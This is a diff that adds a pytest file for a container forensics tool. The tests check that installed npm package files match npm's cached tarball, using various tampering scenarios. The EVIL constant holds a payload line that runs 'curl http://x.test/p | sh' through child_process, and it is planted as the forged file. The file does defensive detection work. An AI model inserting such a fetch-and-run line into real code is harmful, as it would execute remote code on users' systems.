@@ -1,0 +1,167 @@
+"""npm package files held to the tarballs in npm's cache (forensics.history.npmcache).
+
+The layer is a real `npm install ms@2.1.3` (tests/data/npm: node_modules, both lockfiles
+and the _cacache npm 11 wrote). The forgeries edit what the red-team set edits: a file
+of the installed package, in the install step itself (which no record npm keeps could
+show) or in a later one; and the ways around the check a forger has: no cache, a cached
+tarball whose bytes are not its name, npm 6's package.json, stdin.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import subprocess
+import sys
+import tarfile
+from pathlib import Path
+
+sys.path.insert(0, str(Path(__file__).resolve().parent))
+
+import hostile as H  # noqa: E402
+from hostile import Layer, M, Oci  # noqa: E402
+
+from forensics.pipeline import analyze  # noqa: E402
+
+DATA = Path(__file__).resolve().parent / "data" / "npm" / "ms-2.1.3-install.tar"
+INDEX = "/app/node_modules/ms/index.js"
+TARBALL_HEX = "e85973b9b4cb646dc9d9afcd542025784863ceae68c601f268253dc985ef70bb2fa1568726afece715c8ebf5d73fab73ed1f7100eb479d23bfb57b45dd645394"
+TARBALL = f"root/.npm/_cacache/content-v2/sha512/{TARBALL_HEX[:2]}/{TARBALL_HEX[2:4]}/{TARBALL_HEX[4:]}"
+EVIL = b"require('child_process').exec('curl -s http://x.test/p | sh');\n"
+
+
+def _install(edit: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> list[M]:
+    """The npm install, as layer members: the project in /app, the cache in /root/.npm."""
+    out = [M("app", type="dir"), M("root", type="dir")]
+    with tarfile.open(DATA) as t:
+        for m in t.getmembers():
+            name = m.name.rstrip("/")
+            name = f"root/{name}" if name.startswith(".npm") else f"app/{name}"
+            if any(name.startswith(d) for d in drop):
+                continue
+            if m.isdir():
+                out.append(M(name, type="dir", mode=m.mode))
+            else:
+                data = t.extractfile(m).read()  # type: ignore[union-attr]
+                out.append(M(name, (edit or {}).get(name, data), mode=m.mode))
+    return out
+
+
+def _image(tmp_path: Path, members: list[M], later: list[M] | None = None, name: str = "npm.tar") -> Path:
+    base = [M("bin", type="dir"), M("bin/sh", b"\x7fELF" + b"\0" * 60, mode=0o755), M("etc", type="dir")]
+    layers = [Layer.of(H.tar_bytes(base)), Layer.of(H.tar_bytes(members))]
+    history = [
+        {"created_by": "ADD base.tar /"},
+        {"created_by": "WORKDIR /app", "empty_layer": True},
+        {"created_by": "RUN /bin/sh -c npm install ms@2.1.3 # buildkit"},
+    ]
+    if later is not None:
+        layers.append(Layer.of(H.tar_bytes(later)))
+        history.append({"created_by": "RUN /bin/sh -c mkdir -p /srv # buildkit"})
+
+    def config(cfg: dict) -> None:
+        cfg["history"] = [{"created": cfg["created"], **h} for h in history]
+        cfg["config"]["WorkingDir"] = "/app"
+
+    img = tmp_path / name
+    img.write_bytes(Oci(layers=layers, mutate_config=config).tar())
+    return img
+
+
+def _modified(rep) -> list:
+    return [f for f in rep.findings if f.code == "history.package-file-modified"]
+
+
+def test_clean_install_verified_by_its_tarball(tmp_path):
+    rep = analyze(str(_image(tmp_path, _install())), command=["test"])
+    assert _modified(rep) == []
+    assert rep.verdict == "clean", [(f.code, f.severity, f.path) for f in rep.findings]
+    cov = rep.images[0].coverage
+    assert cov is not None and cov.verified_same_step.files >= 4  # index.js, license, readme, package.json
+
+
+def test_edit_in_the_install_step_contradicts_the_tarball(tmp_path):
+    rep = analyze(str(_image(tmp_path, _install({"app/node_modules/ms/index.js": EVIL}))), command=["test"])
+    found = _modified(rep)
+    assert [f.path for f in found] == [INDEX]
+    f = found[0]
+    assert f.severity == "high" and f.layer == 1 and f.history == 2
+    with tarfile.open(DATA) as t:
+        real = t.extractfile("node_modules/ms/index.js").read()  # type: ignore[union-attr]
+    assert f.evidence["recorded"] == hashlib.sha256(real).hexdigest()
+    assert f.evidence["actual"] == hashlib.sha256(EVIL).hexdigest()
+    assert f.evidence["tarball"] == "/" + TARBALL and f.evidence["integrity"].startswith("sha512-6Flz")
+    assert rep.verdict == "tampered"
+
+
+def test_edit_in_a_later_step(tmp_path):
+    later = [M("app", type="dir"), M("app/node_modules", type="dir"), M("app/node_modules/ms", type="dir")]
+    later += [M("app/node_modules/ms/index.js", EVIL), M("srv", type="dir")]
+    rep = analyze(str(_image(tmp_path, _install(), later)), command=["test"])
+    found = [f for f in _modified(rep) if f.path == INDEX]
+    assert found and found[0].layer == 2 and found[0].evidence["record_layer"] == 1
+    assert found[0].evidence["same_step_record"] is False
+
+
+def test_no_cache_leaves_the_package_unverified(tmp_path):
+    rep = analyze(str(_image(tmp_path, _install({"app/node_modules/ms/index.js": EVIL}, drop=("root/.npm",)))))
+    assert _modified(rep) == []
+    cov = rep.images[0].coverage
+    assert cov is not None and cov.verified_same_step.files == 0
+
+
+def test_cached_bytes_not_their_name_verify_nothing(tmp_path):
+    """A forger who rewrites the cached tarball to match the edit, without its name (the
+    sha512) and the lockfiles: the cache entry is not the tarball, nothing is verified."""
+    with tarfile.open(DATA) as t:
+        tgz = t.extractfile(".npm/" + TARBALL.split("/.npm/", 1)[1]).read()  # type: ignore[union-attr]
+    forged = _retar(tgz, {"package/index.js": EVIL})
+    rep = analyze(
+        str(_image(tmp_path, _install({"app/node_modules/ms/index.js": EVIL, TARBALL: forged}))), command=["test"]
+    )
+    assert _modified(rep) == []
+    assert rep.images[0].coverage is not None and rep.images[0].coverage.verified_same_step.files == 0
+
+
+def _retar(tgz: bytes, edit: dict[str, bytes]) -> bytes:
+    import gzip
+    import io
+
+    src = tarfile.open(fileobj=io.BytesIO(gzip.decompress(tgz)))
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w") as dst:
+        for m in src.getmembers():
+            data = edit.get(m.name, src.extractfile(m).read() if m.isreg() else b"")  # type: ignore[union-attr]
+            m.size = len(data)
+            dst.addfile(m, io.BytesIO(data))
+    return gzip.compress(out.getvalue())
+
+
+def test_npm6_package_json_integrity(tmp_path):
+    """npm 6 kept no hidden lockfile and wrote `_integrity` (and `_resolved`...) into the
+    installed package.json: the integrity is read from there, the rewritten package.json
+    is npm's own doing, the edited index.js is not."""
+    with tarfile.open(DATA) as t:
+        pj = json.loads(t.extractfile("node_modules/ms/package.json").read())  # type: ignore[union-attr]
+        lock = json.loads(t.extractfile("node_modules/.package-lock.json").read())  # type: ignore[union-attr]
+    pj["_integrity"] = lock["packages"]["node_modules/ms"]["integrity"]
+    pj["_resolved"] = "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz"
+    members = _install(
+        {"app/node_modules/ms/package.json": json.dumps(pj).encode(), "app/node_modules/ms/index.js": EVIL},
+        drop=("app/node_modules/.package-lock.json", "app/package-lock.json"),
+    )
+    rep = analyze(str(_image(tmp_path, members)), command=["test"])
+    assert [f.path for f in _modified(rep)] == [INDEX]
+
+
+def test_stdin_cannot_read_the_tarball_again(tmp_path):
+    img = _image(tmp_path, _install({"app/node_modules/ms/index.js": EVIL}))
+    out = subprocess.run(
+        [sys.executable, "-m", "forensics", "scan", "-", "--json", "-", "-q"],
+        stdin=img.open("rb"),
+        capture_output=True,
+        check=False,
+    )
+    assert out.returncode in (0, 1), out.stderr
+    doc = json.loads(out.stdout)
+    assert "history.package-file-modified" not in {f["code"] for f in doc["findings"]}
